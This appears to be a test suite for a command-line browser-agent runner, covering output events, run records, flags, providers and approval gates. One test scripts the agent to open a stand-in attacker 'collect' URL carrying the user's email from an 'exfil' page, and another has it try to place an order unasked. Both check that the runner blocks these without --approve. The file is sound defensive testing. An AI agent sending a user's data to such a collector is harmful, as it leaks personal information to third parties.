// The headless runner, exactly as users call it: ./build.sh run ...

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { startLlmServer } from '../support/llm-server.mjs';
import { startSiteServer } from '../support/site-server.mjs';
import { SHOP_TASK, shopScript, runRunner } from '../support/fixtures.mjs';

let site;
let attacker;

before(async () => {
  site = await startSiteServer();
  attacker = await startSiteServer();
});

after(async () => {
  await site?.close();
  await attacker?.close();
});

test('the runner completes the shop task, printing one JSON event per line', async () => {
  const llm = await startLlmServer(shopScript(site.origin));
  try {
    const { code, stdout, stderr } = await runRunner(
      ['--task', SHOP_TASK, '--url', `${site.origin}/shop/`, '--base-url', llm.baseUrl, '--model', 'scripted',
        '--api-key-env', 'RUNNER_TEST_KEY', '--max-steps', '6', '--json'],
      { RUNNER_TEST_KEY: 'sk-from-env' },
    );
    assert.equal(code, 0, stderr);
    const events = stdout.trim().split('\n').map((line) => JSON.parse(line));
    // Every event names the task's chat.
    const { chat } = events[0];
    assert.match(chat, /^[0-9a-f]+-[0-9a-f]{8}$/);
    assert.ok(events.every((e) => e.chat === chat));
    // The model's replies streamed in (OpenAI's SSE format) before each step was reported.
    assert.ok(events.some((e) => e.type === 'model_output' && e.text.startsWith('{"current_state"')));
    const usage = events.filter((e) => e.type === 'usage');
    assert.deepEqual(usage.at(-1), { v: 1, chat, type: 'usage', input_tokens: 800, output_tokens: 160, cost: null });
    assert.deepEqual(events.filter((e) => !['usage', 'model_output'].includes(e.type)).map((e) => e.type), [
      'task_started', 'step_started', 'plan', 'files', 'step', 'step_started', 'step', 'step_started', 'step', 'step_started', 'plan', 'step',
      'plan', 'validation', 'run_recorded', 'result',
    ]);
    assert.deepEqual(events.at(-1), { v: 1, chat, type: 'result', success: true, text: 'The cart total is $14.50', html: '<p>The cart total is $14.50</p>', steps: 4 });
    assert.equal(events[1].max_steps, 6);
    assert.equal(llm.headers[0].authorization, 'Bearer sk-from-env');
    assert.doesNotMatch(stdout, /sk-from-env/);
  } finally {
    await llm.close();
  }
});

test('the runner takes the agents\' settings as flags, and writes the run\'s record', async () => {
  const llm = await startLlmServer(shopScript(site.origin));
  const recordFile = join(await mkdtemp(join(tmpdir(), 'agent-record-')), 'run.json');
  try {
    const { code, stdout, stderr } = await runRunner(
      ['--task', SHOP_TASK, '--url', `${site.origin}/shop/`, '--base-url', llm.baseUrl, '--model', 'navigator-model',
        '--planner-model', 'planner-model', '--planning-interval', '2', '--no-validator', '--vision',
        '--max-input-tokens', '60000', '--memory-interval', '0', '--record', recordFile],
    );
    assert.equal(code, 0, stderr);
    assert.match(stdout, /^Answer: The cart total is \$14\.50$/m);
    assert.equal(llm.validations.length, 0, '--no-validator');
    // Planned at steps 1 and 3 (and not on the claim, which no validator checks), by its own model.
    assert.deepEqual(llm.plans.map((r) => r.model), ['planner-model', 'planner-model']);
    assert.ok(llm.requests.every((r) => r.model === 'navigator-model'));
    // --vision: each navigator request carries the screenshot with its state.
    assert.ok(llm.requests.every((r) => r.raw.messages.at(-1).content.some?.((part) => part.type === 'image_url')));
    // The record: each step with its URL, actions, tokens per agent and time per phase.
    const record = JSON.parse(await readFile(recordFile, 'utf8'));
    assert.equal(record.format, 'browser-agent-run/1');
    assert.equal(record.steps.length, 4);
    assert.equal(record.steps[0].url, `${site.origin}/shop/`);
    assert.equal(record.steps[0].plan.progress, 'In progress');
    assert.equal(record.steps[2].actions[0].name, 'click_element');
    assert.deepEqual(Object.keys(record.steps[0].tokens).sort(), ['navigator', 'planner']);
    assert.ok(record.steps.every((s) => s.timing.page_map_ms > 0 && s.timing.model_ms > 0));
    // The whole step holds its parts; what is not the model is printed at the end.
    assert.ok(record.steps.every(({ timing: t }) => t.step_ms >= t.page_map_ms + t.model_ms + t.actions_ms - 1), JSON.stringify(record.steps.map((s) => s.timing)));
    assert.match(stdout, /^Time per step outside the model: median \d+ ms \(page map \d+ ms, actions and settling \d+ ms\) over 4 steps$/m);
    // Each request's tokens by what they carry, in the record and summed up at the end.
    assert.ok(record.steps.every((s) => s.requests.some((r) => r.role === 'navigator' && r.style === 'full' && r.split.page_lines > 0)));
    assert.match(stdout, /^Tokens per navigator request \(full\): median \d+ \(instructions \d+, schema \d+, task \d+, history \d+, plan \d+, state header \d+, page lines \d+, screenshot \d+\)$/m);
    assert.equal(record.outcome.type, 'result');
    assert.ok(record.tokens.navigator.input > 0 && record.tokens.navigator.calls === 4);
    const usage = await runRunner(['--task', 'x', '--base-url', llm.baseUrl, '--model', 'm', '--planning-interval', 'often']);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /--planning-interval must be a whole number of at least 0/);
  } finally {
    await llm.close();
  }
});

test('the runner prints readable steps and exits 1 when the provider refuses the key', async () => {
  const llm = await startLlmServer([{ status: 401, body: { error: { message: 'Incorrect API key provided' } } }]);
  try {
    const { code, stdout } = await runRunner(['--task', SHOP_TASK, '--url', `${site.origin}/shop/`, '--base-url', llm.baseUrl, '--model', 'scripted']);
    assert.equal(code, 1);
    assert.match(stdout, /^Task: add the blue mug/m);
    assert.match(stdout, /^Error: The model provider refused the API key \(HTTP 401/m);
  } finally {
    await llm.close();
  }
});

test('the runner exits 2 on a usage error, saying what is missing', async () => {
  const missingTask = await runRunner(['--base-url', 'http://127.0.0.1:1/v1', '--model', 'm']);
  assert.equal(missingTask.code, 2);
  assert.match(missingTask.stderr, /--task is required/);
  const unknownFlag = await runRunner(['--task', 'x', '--base-url', 'http://127.0.0.1:1/v1', '--model', 'm', '--bogus']);
  assert.equal(unknownFlag.code, 2);
  const missingKey = await runRunner(['--task', 'x', '--base-url', 'http://127.0.0.1:1/v1', '--model', 'm', '--api-key-env', 'SURELY_UNSET_VAR_42']);
  assert.equal(missingKey.code, 2);
  assert.match(missingKey.stderr, /SURELY_UNSET_VAR_42 is not set/);
});

test('the runner refuses consequential actions unless --approve is given', async () => {
  const script = () => [{ actions: [{ click_element: { target: 'Place order' } }] }, { actions: [{ done: { text: 'ok', success: true } }] }];
  let llm = await startLlmServer(script());
  try {
    const { stdout } = await runRunner(['--task', 'order it', '--url', `${site.origin}/attacks/checkout.html`, '--base-url', llm.baseUrl, '--model', 'm']);
    assert.match(stdout, /^Approval needed: The agent wants to buy or pay for something: clicking <button> "Place order"/m);
    assert.match(stdout, /^ {2}refused \(use --approve to allow\)$/m);
    assert.match(stdout, /✗ click_element: Not done: the user did not allow it \(clicking <button> "Place order"/);
  } finally {
    await llm.close();
  }
  llm = await startLlmServer(script());
  try {
    const { stdout } = await runRunner(['--task', 'order it', '--url', `${site.origin}/attacks/checkout.html`, '--base-url', llm.baseUrl, '--model', 'm', '--approve']);
    assert.match(stdout, /^ {2}allowed \(--approve\)$/m);
    assert.match(stdout, /✓ click_element: Clicked <button> "Place order"/);
  } finally {
    await llm.close();
  }
});

for (const provider of ['anthropic', 'gemini']) {
  test(`the runner completes the shop task with --provider ${provider}, in that provider's wire format`, async () => {
    const llm = await startLlmServer(shopScript(site.origin));
    try {
      const base = provider === 'anthropic' ? llm.baseUrl : llm.baseUrl.replace(/\/v1$/, '/v1beta');
      const { code, stdout, stderr } = await runRunner(
        ['--task', SHOP_TASK, '--url', `${site.origin}/shop/`, '--provider', provider, '--base-url', base,
          '--model', `${provider}-model`, '--api-key-env', 'RUNNER_TEST_KEY'],
        { RUNNER_TEST_KEY: 'key-123' },
      );
      assert.equal(code, 0, stdout + stderr);
      assert.match(stdout, /^Answer: The cart total is \$14\.50$/m);
      assert.ok(llm.requests.every((r) => r.format === provider));
      assert.ok(llm.requests.every((r) => (provider === 'anthropic' ? r.raw.stream : r.stream)), 'replies were streamed');
      assert.equal(llm.requests[0].messages[0].role, 'system');
      const key = provider === 'anthropic' ? llm.headers[0]['x-api-key'] : llm.headers[0]['x-goog-api-key'];
      assert.equal(key, 'key-123');
    } finally {
      await llm.close();
    }
  });
}

test('the runner refuses to send the user\'s data to a site they did not choose, unless --approve', async () => {
  const collector = `${attacker.origin.replace('127.0.0.1', 'localhost')}/collect?email=ada@example.org`;
  const script = () => [{ actions: [{ go_to_url: { url: collector } }] }, { actions: [{ done: { text: 'Done.', success: true } }] }];
  const args = (llm) => ['--task', 'Sign me up for the newsletter with my email ada@example.org', '--url', `${site.origin}/exfil/newsletter.html`,
    '--base-url', llm.baseUrl, '--model', 'scripted', '--max-steps', '4', '--no-validator'];
  let llm = await startLlmServer(script());
  try {
    const { stdout, stderr } = await runRunner(args(llm));
    assert.match(stdout, /^Approval needed: This would send ada@example\.org \(an email address from your task\) to localhost:\d+, by opening http:\/\/localhost:\d+\/collect\?email=ada@example\.org\. Allow it\?\n  refused \(use --approve to allow\)$/m, stderr);
    assert.match(stdout, /✗ go_to_url: The user did not allow sending ada@example\.org to localhost:\d+/);
    assert.deepEqual(attacker.requests, []);
  } finally {
    await llm.close();
  }
  llm = await startLlmServer(script());
  try {
    const { stdout } = await runRunner([...args(llm), '--approve']);
    assert.match(stdout, /^  allowed \(--approve\)$/m);
    assert.deepEqual(attacker.requests.filter((path) => path !== '/favicon.ico'), ['/collect?email=ada@example.org']);
  } finally {
    await llm.close();
  }
});

test('the runner attaches --file to the task, which the agent uploads by name; a missing file is a usage error', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'runner-file-'));
  const cv = join(dir, 'cv.pdf');
  await writeFile(cv, Buffer.from('%PDF-1.4\n%%EOF\n'));
  const llm = await startLlmServer([
    { actions: [{ upload_file: { target: 'CV (PDF)', name: 'cv.pdf' } }] },
    { actions: [{ done: { text: 'chosen', success: true } }] },
  ]);
  try {
    const { code, stdout, stderr } = await runRunner(['--task', 'choose my CV', '--url', `${site.origin}/jobs/apply.html`,
      '--base-url', llm.baseUrl, '--model', 'm', '--file', cv, '--json']);
    assert.equal(code, 0, stderr);
    const steps = stdout.trim().split('\n').map((line) => JSON.parse(line)).filter((e) => e.type === 'step');
    assert.match(steps[0].actions[0].outcome, /^Put "cv\.pdf" into <input> "CV \(PDF\)" \[\d+\]\.$/);
    assert.match(llm.requests[0].messages.at(-1).content, /\n- cv\.pdf: attached, application\/pdf, 15 bytes\n/);
  } finally {
    await llm.close();
  }
  const missing = await runRunner(['--task', 'x', '--base-url', 'http://127.0.0.1:1/v1', '--model', 'm', '--file', join(dir, 'gone.pdf')]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /cannot read the file .*gone\.pdf/);
});
